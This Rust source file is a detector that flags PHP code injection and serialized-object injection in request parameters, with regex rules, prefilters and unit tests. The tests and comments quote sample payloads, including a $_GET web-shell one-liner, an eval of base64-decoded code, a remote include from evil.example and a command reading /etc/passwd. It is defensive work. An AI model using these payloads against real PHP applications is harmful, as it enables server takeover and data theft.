//! `php` check: PHP code and PHP object injection in parameters.
//!
//! What blocks at level 1:
//!
//! - an opening tag, `<?php` or `<?=`, or Smarty's `{php}`;
//! - a superglobal read, `$_GET[`, `$_POST[`, `$_REQUEST[`, `$_COOKIE[`, `$_SERVER[`, `$_FILES[`;
//! - a call of a function whose name other code shares (`eval`, `assert`, `system`, `exec`,
//!   `passthru`, `popen`, `fopen`, `unserialize`, `chr`...) whose first argument looks like
//!   PHP: a variable, a string literal, a nested call of the decoders. `eval()` or `exec(cmd)`
//!   in a sentence about JavaScript does not;
//! - `system` or `passthru` given a program's name without quotes, `system(whoami)` (PHP reads
//!   the bare name as a string);
//! - a function name in parentheses called, `(system)('id')`, `('system')('id')`;
//! - a call, whatever its arguments, of a function whose name only PHP has and only code writes
//!   (`base64_decode()`, `gzinflate(`, `fsockopen(`, `posix_getpwuid(`, `get_defined_vars(`);
//! - a function called to name a variable in an interpolated string, `{${system('id')}}`;
//! - `phpinfo()`, `preg_replace` with the `/e` modifier, `include`/`require` of a URL or a stream
//!   wrapper;
//! - a serialized object, `O:8:"stdClass":1:{`.
//!
//! # Performance
//!
//! A value without `(`, `<`, `$`, `://` and without `O:`/`C:` is cleared by `memchr` without allocating.

use std::sync::OnceLock;

use regex::bytes::Regex;

use super::{Hit, has_pair, scheme_separators};

/// Scans one decoded value.
pub fn scan(value: &str) -> Option<Hit> {
    let b = value.as_bytes();
    let url = scheme_separators(b).next().is_some();
    let code_bytes =
        memchr::memchr3(b'(', b'<', b'$', b).is_some() || memchr::memchr(b'{', b).is_some() || url;
    let serial = memchr::memchr_iter(b':', b).any(|i| i > 0 && matches!(b[i - 1], b'O' | b'C'));
    if !code_bytes && !serial {
        return None;
    }
    if !may_match(b, url) {
        return None;
    }
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    let re = RE
        .get_or_init(|| {
            // Names other code shares, which need an argument that looks like PHP (the names
            // only PHP has are the `only` alternative's, whatever their arguments).
            let calls = "eval|assert|system|exec|passthru|popen|file_get_contents|fopen|fwrite|\
                unserialize|array_map|usort|ob_start|readfile|chr|hex2bin";
            let arg = r#"(?:\$|['"]|(?:eval|assert|base64_decode|gzinflate|gzuncompress|str_rot13|chr|hex2bin|strrev)\s*\()"#;
            let alternatives = [
                // Smarty's `{php}...{/php}` runs PHP too.
                r"(?P<tag><\?php\b|<\?=|\{/?php\})".to_owned(),
                r"(?P<sg>\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES|ENV|SESSION)\s*\[|\$GLOBALS\s*\[|\$\{\s*['\x22]_(?:GET|POST|REQUEST)['\x22]\s*\})".to_owned(),
                format!(r"(?P<call>(?:^|[^a-z0-9_$>.:]|@)(?:{calls})\s*\(\s*{arg})"),
                // `{${f()}}`: in a string PHP interpolates, the name of a variable variable is
                // computed by calling `f`.
                r"(?P<curly>\{\$\{\s*@?[a-z_][a-z0-9_]*\s*\()".to_owned(),
                r"(?P<info>\bphpinfo\s*\(\s*\))".to_owned(),
                // Names that only PHP has, and only code calls: whatever the arguments.
                format!(r"(?P<only>(?:^|[^a-z0-9_$>.:]|@)(?:{PHP_ONLY}|posix_[a-z]+)\s*\()"),
                // `(system)('id')`, `('system')('id')`: a name in parentheses called, PHP 7's
                // way to call a function without writing `system(`.
                r#"(?P<callable>\(\s*['"]?(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function)['"]?\s*\)\s*\()"#.to_owned(),
                r#"(?P<pre>\bpreg_replace\s*\(\s*['"][^'"]{0,300}[/#~|!@%][a-df-z]*e[a-z]*['"])"#.to_owned(),
                r#"(?P<inc>\b(?:include|require)(?:_once)?\s*\(?\s*['"]?(?:https?|ftp|php|data|expect|phar|zip|file)://)"#.to_owned(),
                r#"(?P<obj>(?:^|[^a-z0-9])[OC]:\d{1,6}:"[a-z_\\][a-z0-9_\\]{0,200}":\d{1,6}:\{)"#.to_owned(),
            ];
            Regex::new(&format!("(?i-u){}", alternatives.join("|"))).ok()
        })
        .as_ref()?;
    // The automaton answers "no" without building capture slots; only a match pays for them.
    if !re.is_match(b) {
        return command_call(b);
    }
    let caps = re.captures(b)?;
    let (rule, m) = [
        ("php-tag", "tag"),
        ("php-superglobal", "sg"),
        ("php-call", "call"),
        ("php-call", "curly"),
        ("php-call", "info"),
        ("php-call", "only"),
        ("php-call", "callable"),
        ("php-preg-e", "pre"),
        ("php-include", "inc"),
        ("php-object", "obj"),
    ]
    .into_iter()
    .find_map(|(rule, name)| caps.name(name).map(|m| (rule, m)))?;
    Some(Hit {
        level: 1,
        rule,
        evidence: m.start()..m.end(),
    })
}

/// `system(whoami)`, `shell_exec(cat /etc/passwd)`: a function that runs a command line, given
/// one without quotes (PHP reads the bare name as a string, with a notice). Only the functions
/// no other language has under that name, and only when the argument starts with a program's
/// name: `the system(s)` stays prose.
fn command_call(b: &[u8]) -> Option<Hit> {
    // `shell_exec`, `proc_open` and `pcntl_exec` are PHP's only: any call of them is code.
    const RUNNERS: [&[u8]; 2] = [b"system", b"passthru"];
    memchr::memchr_iter(b'(', b).find_map(|p| {
        let mut end = p;
        while end > 0 && is_space(b[end - 1]) {
            end -= 1;
        }
        let start = RUNNERS.iter().find_map(|r| {
            let s = end.checked_sub(r.len())?;
            b[s..end].eq_ignore_ascii_case(r).then_some(s)
        })?;
        // A method (`os.system(`, `$x->system(`) or a longer name is something else.
        if start > 0 && (is_word(b[start - 1]) || matches!(b[start - 1], b'.' | b'>' | b':' | b'$'))
        {
            return None;
        }
        let arg = b[p + 1..].trim_ascii_start();
        let arg_start = b.len() - arg.len();
        super::cmdi::program_at(arg).then_some(Hit {
            level: 1,
            rule: "php-call",
            evidence: start..arg_start + arg.len().min(32),
        })
    })
}

/// PHP functions that run code or commands, decode hidden code, or reach the network or the
/// process's secrets, under names no other language and no sentence uses (the `only`
/// alternative): a call of one is code whatever its arguments (`base64_decode()`,
/// `fsockopen('host', 25)`).
const PHP_ONLY: &str = "shell_exec|pcntl_exec|proc_open|base64_decode|str_rot13|gzinflate|\
    gzuncompress|gzdecode|bzdecompress|zlib_decode|call_user_func|call_user_func_array|\
    create_function|fsockopen|pfsockopen|get_defined_vars|get_defined_functions|curl_init|\
    curl_exec|file_put_contents|move_uploaded_file|highlight_file|show_source";

/// The names the `call`, `info`, `only` and `pre` alternatives put before a `(`.
fn is_call_name(word: &[u8]) -> bool {
    let mut buf = [0u8; 24];
    let Some(lower) = buf.get_mut(..word.len()) else {
        return false;
    };
    for (d, s) in lower.iter_mut().zip(word) {
        *d = s.to_ascii_lowercase();
    }
    matches!(
        &*lower,
        b"eval"
            | b"assert"
            | b"system"
            | b"exec"
            | b"shell_exec"
            | b"passthru"
            | b"popen"
            | b"proc_open"
            | b"pcntl_exec"
            | b"create_function"
            | b"call_user_func"
            | b"call_user_func_array"
            | b"base64_decode"
            | b"gzinflate"
            | b"gzuncompress"
            | b"gzdecode"
            | b"str_rot13"
            | b"file_put_contents"
            | b"file_get_contents"
            | b"fopen"
            | b"fwrite"
            | b"move_uploaded_file"
            | b"unserialize"
            | b"array_map"
            | b"usort"
            | b"ob_start"
            | b"highlight_file"
            | b"show_source"
            | b"readfile"
            | b"chr"
            | b"hex2bin"
            | b"phpinfo"
            | b"preg_replace"
            | b"bzdecompress"
            | b"zlib_decode"
            | b"fsockopen"
            | b"pfsockopen"
            | b"get_defined_vars"
            | b"get_defined_functions"
            | b"curl_init"
            | b"curl_exec"
    ) || lower.starts_with(b"posix_")
}

/// A byte of `\s` as the regex reads it without Unicode: `\t \n \v \f \r` and space.
fn is_space(c: u8) -> bool {
    matches!(c, b'\t' | b'\n' | 0x0B | 0x0C | b'\r' | b' ')
}

fn is_word(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

/// The exact prefilter of the regex: false only when no alternative can match, because the
/// literal each one requires is missing. Each is looked for where it must stand:
///
/// - `tag`: `<?`, `{php}` or `{/php}`; `sg` and `curly`: a `$`;
/// - `call`, `info`, `only`, `pre`: a `(` after one of the call names (a whole word, then
///   `\s*`);
/// - `inc`: `://` and `include` or `require` somewhere;
/// - `obj`: `O:` or `C:` (any case) before a digit.
fn may_match(b: &[u8], url: bool) -> bool {
    if memchr::memchr(b'$', b).is_some() || has_pair(b, *b"<?") {
        return true;
    }
    // `tag`: Smarty's `{php}` and `{/php}`.
    let smarty = |i: usize| {
        let rest = &b[i + 1..];
        let rest = rest.strip_prefix(b"/").unwrap_or(rest);
        rest.len() >= 4 && rest[..4].eq_ignore_ascii_case(b"php}")
    };
    if memchr::memchr_iter(b'{', b).any(smarty) {
        return true;
    }
    for p in memchr::memchr_iter(b'(', b) {
        let mut end = p;
        while end > 0 && is_space(b[end - 1]) {
            end -= 1;
        }
        // `callable`: `(system)(`, `('system')(`: the name before the `)` before this `(`.
        if end > 0 && b[end - 1] == b')' {
            end -= 1;
            while end > 0 && (is_space(b[end - 1]) || matches!(b[end - 1], b'\'' | b'"')) {
                end -= 1;
            }
        }
        let mut start = end;
        // The longest name has 21 bytes: a longer word is none of them.
        while start > 0 && end - start <= 20 && is_word(b[start - 1]) {
            start -= 1;
        }
        if is_call_name(&b[start..end]) {
            return true;
        }
    }
    for p in memchr::memchr_iter(b':', b) {
        if p > 0
            && matches!(b[p - 1], b'O' | b'o' | b'C' | b'c')
            && b.get(p + 1).is_some_and(u8::is_ascii_digit)
        {
            return true;
        }
    }
    if url {
        // `inc`: `include` or `require` before the URL; looked for from their first letters,
        // which a URL has few of.
        let word_at = |w: &'static [u8]| {
            move |i: usize| {
                b.get(i..i + w.len())
                    .is_some_and(|t| t.eq_ignore_ascii_case(w))
            }
        };
        return memchr::memchr2_iter(b'i', b'I', b).any(word_at(b"include"))
            || memchr::memchr2_iter(b'r', b'R', b).any(word_at(b"require"));
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::screen::test_support::assert_linear;

    #[test]
    fn code_blocks_and_prose_passes() {
        for v in [
            "<?php system($_GET['c']); ?>",
            "<?=`id`?>",
            "eval(base64_decode('ZWNobyAxOw=='))",
            ";system('id')",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
            "preg_replace('/.*/e', $_POST['x'], '')",
            "include('http://evil.example/x.txt')",
            "phpinfo()",
        ] {
            assert_eq!(scan(v).map(|h| h.level), Some(1), "{v}");
        }
        for v in [
            "A safe eval() alternative for JSON",
            "Wraps child_process.exec(cmd) with promises",
            "assert(value) for browsers",
            "Price (in $) < 100",
            "Tom & Jerry; cats | dogs",
        ] {
            assert_eq!(scan(v), None, "{v}");
        }
    }

    #[test]
    fn big_inputs_are_fast_and_safe() {
        for unit in ["eval(", "<?", "$_GET", "O:1:\"", "preg_replace('", "(", "a"] {
            assert_linear(
                &|v| {
                    let _ = scan(v);
                },
                unit,
            );
        }
    }
}
